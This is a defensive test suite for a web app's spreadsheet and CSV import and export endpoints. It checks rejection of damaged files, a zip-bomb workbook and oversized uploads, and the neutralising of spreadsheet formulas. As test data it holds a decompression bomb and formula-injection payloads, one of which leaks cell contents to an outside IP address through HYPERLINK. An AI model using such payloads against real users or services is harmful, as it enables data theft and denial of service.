import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, signInAs, type TestApp } from '../test/app.ts';
import { testDatabaseKind } from '../test/database.ts';
import { makeZip } from '../test/zip.ts';
import { TABLE_LIMITS, XLSX_TYPE } from './table-parse.ts';

describe(`uploaded files that are not what they claim (${testDatabaseKind})`, () => {
  let t: TestApp;
  let boc: Record<string, string>;
  let regulator: Record<string, string>;
  beforeAll(async () => {
    t = await createTestApp();
    boc = await signInAs(t.app, 'boc.admin');
    regulator = await signInAs(t.app, 'regulator');
  });
  afterAll(() => t.close());

  const upload = (url: string, type: string, payload: Buffer | string) =>
    t.app.inject({ method: 'POST', url, headers: { ...(url.includes('zones') ? regulator : boc), 'content-type': type }, payload });
  const endpoints = ['/api/v1/branches/import', '/api/v1/zones/import'];

  // 48 MB of one repeated row: about 50 KB once deflated.
  const bombSheet = Buffer.from(`<sheetData>${'<row><c t="inlineStr"><is><t>a</t></is></c></row>'.repeat(1_000_000)}</sheetData>`);
  const bomb = makeZip([
    { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
    { name: 'xl/worksheets/sheet1.xml', data: bombSheet },
  ]);
  const cases: [string, string, Buffer | string, number, string][] = [
    ['a file named .xlsx that is not a workbook', XLSX_TYPE, Buffer.from('网点编号,网点名称\n1,一\n'), 400, 'file.unreadable'],
    ['a damaged workbook', XLSX_TYPE, makeZip([{ name: 'xl/workbook.xml', data: Buffer.from('<not-closed') }]), 400, 'file.unreadable'],
    ['a CSV with an unclosed quote', 'text/csv', '网点编号,网点名称\n"1,一\n2,二\n', 400, 'file.unreadable'],
    ['a binary file sent as CSV', 'text/csv', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0x0d, 0xff, 0x00]), 400, 'file.binary'],
    ['an empty file', 'text/csv', Buffer.alloc(0), 400, 'file.empty'],
    ['an empty workbook', XLSX_TYPE, Buffer.alloc(0), 400, 'file.empty'],
    ['a workbook that unzips to 40 MB and more', XLSX_TYPE, bomb, 413, 'file.too_large'],
    ['a CSV over the row limit', 'text/csv', `网点编号\n${'1\n'.repeat(TABLE_LIMITS.rows + 1)}`, 413, 'file.too_large'],
  ];
  for (const url of endpoints) {
    it.each(cases)(`${url}: %s gets a clear error in both languages`, async (_name, type, payload, status, code) => {
      const res = await upload(url, type, payload);
      expect(res.statusCode, res.body).toBe(status);
      expect(res.json().error).toMatchObject({ code, message: expect.any(String), message_zh: expect.any(String) });
    });
  }

  it('refuses the workbook bomb before unzipping it, and keeps answering meanwhile', async () => {
    expect(bomb.length).toBeLessThan(200_000);
    const started = Date.now();
    const res = await upload('/api/v1/branches/import', XLSX_TYPE, bomb);
    expect(res.json().error.details).toEqual({ limit: 'inflatedBytes', max: TABLE_LIMITS.inflatedBytes });
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it('parses a large file off the event loop: other requests are answered while it is read', async () => {
    const rows = Array.from({ length: 40_000 }, (_, i) => `Z${i},310101002,,31.23,121.48,封控区,2022-04-01,`).join('\n');
    const importing = upload('/api/v1/zones/import', 'text/csv', `名称,街道代码,整街,纬度,经度,等级,开始日期,结束日期\n${rows}`);
    // Health answers while the file is parsed in its worker thread.
    let answered = 0;
    let slowest = 0;
    const pinging = (async () => {
      for (let i = 0; i < 20; i++) {
        const at = performance.now();
        await t.app.inject('/healthz');
        slowest = Math.max(slowest, performance.now() - at);
        answered++;
        await new Promise((r) => setTimeout(r, 10));
      }
    })();
    const [res] = await Promise.all([importing, pinging]);
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    expect(answered).toBe(20);
    expect(slowest).toBeLessThan(1000);
  });

  it('lists the first hundred problems, counts them all, and gives every rejected row back in the file', async () => {
    const rows = Array.from({ length: 250 }, (_, i) => `坏行${i},310199999,,31.2,121.4,封控区,2022-04-01,`).join('\n');
    const res = await upload('/api/v1/zones/import', 'text/csv', `名称,街道代码,整街,纬度,经度,等级,开始日期,结束日期\n${rows}`);
    expect(res.statusCode).toBe(400);
    const details = res.json().error.details;
    expect(details.problems).toHaveLength(100);
    expect(details.problemCount).toBe(250);
    expect(details.rejectedCsv.trim().split('\n')).toHaveLength(251);
  });

  it('neutralises formulas in exported CSV and in the rejected rows, and reads them back as they were', async () => {
    const evil = '=HYPERLINK("http://203.0.113.9/?leak="&A1,"点击")';
    const rows = [
      `"${evil.replaceAll('"', '""')}",310199999,,31.2,121.4,封控区,2022-04-01,`,
      '+1-2,310199999,,31.2,121.4,封控区,2022-04-01,',
    ].join('\n');
    const res = await upload(
      '/api/v1/zones/import?partial=true',
      'text/csv',
      `名称,街道代码,整街,纬度,经度,等级,开始日期,结束日期\n${rows}`,
    );
    expect(res.statusCode, res.body).toBe(200);
    const rejected = res.json().rejectedCsv as string;
    expect(rejected).toContain(`"'=HYPERLINK(`);
    expect(rejected).toContain("'+1-2");
    expect(rejected).not.toMatch(/(^|,)"?[=+@-]/m);
    // Sent back as it is, the file reads the names as they were typed.
    const again = await upload('/api/v1/zones/import?partial=true', 'text/csv', rejected);
    expect(again.json().problems.map((p: { line: number }) => p.line)).toEqual([2, 3]);
    // Read back as typed, then neutralised once again: never a doubled apostrophe.
    expect(again.json().rejectedCsv).toContain(`"'=HYPERLINK(`);
    expect(again.json().rejectedCsv).not.toContain("''");

    const created = await t.app.inject({
      method: 'POST',
      url: '/api/v1/branches',
      headers: boc,
      payload: {
        code: 'F1',
        nameZh: '@SUM(1+1)*cmd',
        address: '黄浦区某路1号',
        streetCode: '310101002',
        lat: 31.23,
        lng: 121.48,
        services: ['cash'],
        weeklyHours: { days: { 1: [{ open: '09:00', close: '17:00' }] } },
      },
    });
    expect(created.statusCode, created.body).toBe(201);
    const csv = (await t.app.inject({ url: '/api/v1/branches/export?format=csv', headers: boc })).body;
    expect(csv).toContain("'@SUM(1+1)*cmd");
  });
});
